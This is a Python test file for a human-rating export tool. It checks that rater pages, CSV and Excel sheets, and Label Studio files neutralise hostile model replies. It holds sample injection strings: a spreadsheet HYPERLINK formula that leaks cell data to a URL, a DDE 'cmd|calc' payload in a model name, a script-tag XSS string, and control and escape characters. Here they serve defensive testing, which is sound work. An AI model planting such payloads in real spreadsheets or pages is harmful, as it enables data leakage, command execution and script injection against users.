"""What raters are given besides the page: sheets that no spreadsheet computes, and Label Studio's files."""

from __future__ import annotations

import json
import shutil
from importlib import resources
from pathlib import Path
from xml.etree import ElementTree

import pytest
from lm_eval.api.instance import Instance

from csc_tasks.data.tables import table_rows
from csc_tasks.human.label_studio import TIE_CONTROL, AnnotatedTask
from csc_tasks.human.spreadsheet import unguarded
from csc_tasks.human.study import VALUE_WORDS, Decided, StudyKey, column_of, read_key, sheet_columns
from csc_tasks.metrics.judge.rubric import Kind
from tests.door import csconv
from tests.human.sheet.studies import data_of, for_raters, given, make
from tests.leaderboards.logs import write_run

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"点这里")'
HOSTILE = (
    FORMULA,
    "</script><script>alert(1)</script>{{script}}",
    "+86 10 1234\x00\x08\u202e",
    "@SUM(1)\n-2",
    "1/2",
    '"]]><View onload="x">&amp;',
)
TONE = """
[[dimension]]
name = "tone"
title = "语气"
kind = "choice"
options = ["热情", "冷,淡"]
question = "语气如何。"
"""
MODEL = "=cmd|calc'!A0\x1b[31m"
"""A folder's name, which is what a model is called."""


def hostile(request: Instance) -> str:
    """Every sixth reply the same hostile one, every tenth turn silence."""
    number = request.doc["turn"] + len(request.doc["conversation"])
    return "" if request.doc["turn"] % 10 == 9 else f"[信息传达] {HOSTILE[number % len(HOSTILE)]}"


def other(request: Instance) -> str:
    """The same as the hostile one at the first turn, and the gold reply at the others."""
    return hostile(request) if request.doc["turn"] == 0 else f"[信息传达] {request.doc['reference']}"


@pytest.fixture(scope="module")
def runs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    write_run(folder, "org/hostile", hostile, date=1.0, limit=26)
    (folder / "org__hostile").rename(folder / MODEL)
    write_run(folder, "org/other", other, date=2.0, limit=26)
    return folder


@pytest.fixture(scope="module")
def rated(runs: Path, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, StudyKey]:
    out = tmp_path_factory.mktemp("files") / "rate"
    return out, make(runs, out, "--sample", "26", "--attention", "1")


@pytest.fixture(scope="module")
def paired(runs: Path, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, StudyKey]:
    out = tmp_path_factory.mktemp("files") / "pair"
    return out, make(runs, out, "--sample", "26", "--kind", "pair", "--lang", "zh")


def shown(folder: Path, key: StudyKey) -> dict[str, str]:
    """The reply of each item as the page has it."""
    return {name: item["replies"][-1][1] for name, item in given(folder).items()}


def test_silence_and_equal_replies_are_nobodys_work_and_count_as_for_the_judge(
    rated: tuple[Path, StudyKey], paired: tuple[Path, StudyKey]
) -> None:
    silent = rated[1].decided
    assert {(d.turn, d.why) for d in silent} == {(9, "silent")}
    assert all(d.scores["empathy"] == 1 and d.scores["resolved_step"] is False for d in silent)
    assert {(d.turn, d.why, winner_of(d, paired[1])) for d in paired[1].decided} == {
        (0, "equal", None),
        (9, "silent", "org__other"),
    }
    asked = {(i.conversation, i.turn) for i in paired[1].items if i.runs}
    assert asked.isdisjoint({(d.conversation, d.turn) for d in paired[1].decided})


def winner_of(decided: Decided, key: StudyKey) -> str | None:
    said = decided.scores["winner"]
    return None if said == "平" else key.runs[decided.runs["甲乙".index(str(said))]].model


def test_what_is_hostile_in_a_reply_is_data_on_the_page(rated: tuple[Path, StudyKey]) -> None:
    folder, key = rated
    page = (folder / "rater-1.html").read_text(encoding="utf-8")
    assert (page.count("<script"), page.count("</script")) == (2, 2)
    assert {HOSTILE[0], HOSTILE[1]} <= set(shown(folder, key).values())


@pytest.mark.parametrize("name", ["rated", "paired"])
def test_a_sheet_holds_the_same_items_and_no_cell_that_is_computed(
    name: str, request: pytest.FixtureRequest
) -> None:
    folder, key = request.getfixturevalue(name)
    rows = [row for _, row in table_rows(folder / "sheets" / "rater-1.csv")]
    assert tuple(map(column_of, rows[0])) == sheet_columns(key.rubric)
    read = [{column_of(heading): unguarded(cell) for heading, cell in row.items()} for row in rows]
    assert [row["item"].removeprefix("i_") for row in read] == key.raters[0].items
    assert {row["study"] for row in read} == {f"f_{key.fingerprint}"}
    texts = shown(folder, key)
    last = key.rubric.shown[-1]
    for row in read:
        assert row[last] == texts[row["item"].removeprefix("i_")].replace("\0", "")
    assert not [cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "-", "@"))]


@pytest.mark.parametrize("name", ["rated", "paired"])
def test_a_workbook_holds_texts_alone_and_offers_what_can_be_answered(
    name: str, request: pytest.FixtureRequest
) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    folder, key = request.getfixturevalue(name)
    book = openpyxl.load_workbook(folder / "sheets" / "rater-1.xlsx")
    sheet, guide = book["rater-1"], book["guide"]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    assert [row[3].value.removeprefix("i_") for row in sheet.iter_rows(min_row=2)] == key.raters[0].items
    columns = sheet_columns(key.rubric)
    assert tuple(column_of(cell.value) for cell in sheet[1]) == columns
    if name == "rated":
        assert FORMULA in {cell.value for cell in cells}
    offered = [each.formula1.strip('"').split(",") for each in sheet.data_validations.dataValidation]
    for dimension, values in zip(key.rubric.dimensions, offered, strict=True):
        read = [VALUE_WORDS[dimension.kind][value] for value in values]
        assert all(map(dimension.accepts, read))
        assert len(set(map(repr, read))) == {Kind.SCALE: 5, Kind.YES_NO: 2, Kind.CHOICE: 3}[dimension.kind]
    words = "\n".join(str(cell.value) for (cell,) in guide.iter_rows() if cell.value)
    assert all(dimension.name in words for dimension in key.rubric.dimensions)


def test_label_studio_has_a_control_for_every_question_and_tasks_with_what_it_shows(
    rated: tuple[Path, StudyKey], paired: tuple[Path, StudyKey]
) -> None:
    for folder, key in (rated, paired):
        root = ElementTree.parse(folder / "label-studio" / "config.xml").getroot()
        named = {element.get("name"): element for element in root.iter() if element.get("name")}
        texts = {name for name, element in named.items() if element.tag == "Text"}
        assert texts == set(key.rubric.shown)
        tags = {d.name: named[d.name].tag for d in key.rubric.dimensions}
        for dimension in key.rubric.dimensions:
            targets = (named[dimension.name].get("toName") or "").split(",")
            assert set(targets) <= texts
        if key is paired[1]:
            assert tags == {"winner": "Pairwise"}
            assert [c.get("alias") for c in named[TIE_CONTROL]] == ["tie"]
        else:
            assert tags["empathy"] == "Rating"
            assert [c.get("alias") for c in named["resolved_step"]] == ["yes", "no"]
        tasks = json.loads((folder / "label-studio" / "tasks-rater-1.json").read_bytes())
        read = [AnnotatedTask.model_validate(task).data for task in tasks]
        assert [data.item for data in read] == key.raters[0].items
        assert {(data.study, data.rater) for data in read} == {(key.fingerprint, "rater-1")}
        assert all(set(key.rubric.shown) <= set(task["data"]) for task in tasks)


def test_a_model_with_a_hostile_name_is_named_in_the_key_alone(runs: Path, tmp_path: Path) -> None:
    done = csconv("human", "sheet", runs, "--sample", "4", "--out", tmp_path / "study\x1b")
    assert done.code == 0, done.output
    assert "\x1b" not in done.output
    assert MODEL in {run.model for run in read_key(tmp_path / "study\x1b").runs}
    assert not [path for path in for_raters(tmp_path) if MODEL[:5].encode() in path.read_bytes()]


def test_a_page_in_one_language_has_no_other(paired: tuple[Path, StudyKey]) -> None:
    data = data_of(paired[0] / "rater-1.html")
    assert (data["languages"], list(data["material"]["headings"])) == (["zh"], ["zh"])
    assert not [text for item in data["items"] for _, text in item["replies"] if "Check:" in text]


def test_a_rubric_of_ones_own_is_put_in_its_own_words_and_its_choices_are_offered(
    short: Path, tmp_path: Path
) -> None:
    own = Path(
        shutil.copytree(
            str(resources.files("csc_tasks.metrics.judge") / "rubrics" / "turn-zh-2"), tmp_path / "own"
        )
    )
    (own / "en.toml").unlink()
    with (own / "rubric.toml").open("a", encoding="utf-8") as file:
        file.write(TONE)
    key = make(short, tmp_path / "study", "--sample", "4", "--rubric", own)
    data = data_of(tmp_path / "study" / "rater-1.html")
    assert (key.rubric.name, key.languages, data["languages"]) == ("own", ["zh"], ["zh"])
    assert data["material"]["questions"][-1]["options"] == ["热情", "冷,淡"]
    assert (tmp_path / "study" / "sheets" / "rater-1.xlsx").is_file()
    asked = [item.right for item in key.items if item.right]
    assert asked
    assert not [right for right in asked if "tone" in right]
